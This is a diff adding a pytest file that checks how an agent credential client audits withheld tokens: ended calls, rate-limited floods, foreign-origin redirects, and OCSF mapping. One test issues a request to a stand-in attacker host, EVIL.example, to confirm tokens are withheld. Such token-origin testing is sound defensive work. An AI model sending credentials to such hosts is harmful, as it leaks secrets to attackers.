@@ -1,0 +1,118 @@
+"""What a call hands out and is not given, or not sent, is told: to its own host's audit, and as no flood."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from typing import Any
+
+import anyio.to_thread
+import httpx
+import pytest
+from tests.support.agent_pair import ORDER, Pair, pair_of_agents
+from tests.support.agent_world import AgentWorld
+
+from spiffe_client.agents import Task
+from spiffe_client.audit import Event, to_ocsf
+from spiffe_client.errors import TaskEndedError, TaskError, TokenOriginError
+
+pytestmark = pytest.mark.anyio
+
+EVENT = "credential.withheld"
+
+
+@pytest.fixture
+async def pair(anyio_backend: str) -> AsyncIterator[Pair]:
+    async with pair_of_agents() as pair:
+        yield pair
+
+
+def task_of(world: AgentWorld) -> Task:
+    return world.host.task("close the March books", ["summarize", "invoices:read"], tenant="acme")
+
+
+async def test_once_for_each_reason(world: AgentWorld) -> None:
+    """Who asks a call that has ended again and again is told of once while its task goes on, and once after that."""
+    async with task_of(world) as task:
+        async with task.call("invoices:read", "tenants/acme/invoices/7") as call:
+            pass
+        for _ in range(3):
+            with pytest.raises(TaskError, match="has ended"):
+                _ = call.http
+    for _ in range(3):
+        with pytest.raises(TaskEndedError):
+            _ = call.auth
+    first, second = world.told(EVENT)
+    assert ("call_ended", "task_ended") == (first["reason"], second["reason"])
+    assert (task.id, call.id, "invoices:read", "acme", "deny", "denied") == tuple(
+        first[name] for name in ("task", "call", "action", "tenant", "decision", "outcome")
+    )
+    assert not {"duration_ms", "origin"} & first.keys()
+    assert 0 == world.told("task.ended")[0]["denied"], "it was a call once, and let in"
+
+
+async def test_one_that_runs_has_a_record_of_its_own(world: AgentWorld) -> None:
+    """Its task ends inside, which `call.finished` says: that is one event, and not two."""
+    with pytest.raises(TaskEndedError):
+        async with task_of(world) as task, task.call("summarize") as call:
+            task.end("deadline")
+            with pytest.raises(TaskEndedError):
+                call.refuse()
+            await anyio.sleep_forever()
+    assert ([], ["deadline"]) == (world.told(EVENT), [facts["ended"] for facts in world.told("call.finished")])
+
+
+async def test_cancelled_by_its_caller_alone(world: AgentWorld) -> None:
+    """Then its task has not ended, and nothing is said of that."""
+    async with task_of(world) as task:
+        with anyio.CancelScope() as scope:
+            async with task.call("summarize"):
+                scope.cancel()
+                await anyio.sleep_forever()
+    (facts,) = world.told("call.finished")
+    assert ("cancelled", None) == (facts["outcome"], facts.get("ended"))
+
+
+async def test_attack_a_flood_of_calls_that_never_began(world: AgentWorld) -> None:
+    """They cost their task nothing, so they are told like tickets: sixty a minute, and how many there were."""
+    async with task_of(world) as task:
+        for _ in range(300):
+            with pytest.raises(TaskError):
+                _ = task.call("summarize").http
+        assert 60 == len(world.told(EVENT))
+        world.clock._elapsed += 61
+        with pytest.raises(TaskError):
+            _ = task.call("summarize").http
+    assert 240 == world.told(EVENT)[-1]["untold"]
+
+
+@pytest.mark.parametrize("blocking", [False, True])
+async def test_another_origin(pair: Pair, blocking: bool) -> None:
+    """Directly, and by redirects that are followed: an origin is told, and nothing else of an address."""
+    there = pair.broker.issuer
+    origin = str(httpx.URL(there).copy_with(path="/")).rstrip("/")
+
+    def options(to: str) -> dict[str, Any]:
+        return {"url": f"{pair.service.url}/redirect", "params": {"to": to}, "follow_redirects": True}
+
+    async with pair.task() as task:
+        async with task.call("orders:read", ORDER) as one, task.call("orders:read", ORDER) as two:
+            with pytest.raises(TokenOriginError):
+                await one.http.get(f"https://user:canary@EVIL.example:8443/{'canary' * 99}?canary")
+            for to in (f"{pair.service.url}/v1/orders", f"{there}/canary"):
+                if blocking:
+                    await anyio.to_thread.run_sync(lambda to=to: two.http_sync.get(**options(to)))
+                else:
+                    await two.http.get(**options(to))
+    assert [(one.id, "https://evil.example:8443", "token_origin"), (two.id, origin, "token_origin")] == [
+        (facts["call"], facts["origin"], facts["reason"]) for facts in pair.told(EVENT)
+    ]
+    assert not any("canary" in repr(event) for event in pair.audit)
+
+
+def test_in_a_siem() -> None:
+    """It is a denial, with its reason."""
+    event = Event(EVENT, "no", {"decision": "deny", "reason": "token_origin", "outcome": "denied", "task": "t"})
+    mapped = to_ocsf(event, at=AgentWorld().clock.now())
+    assert ("Authentication", "Denied", "token_origin") == tuple(
+        mapped[name] for name in ("class_name", "action", "status_code")
+    )
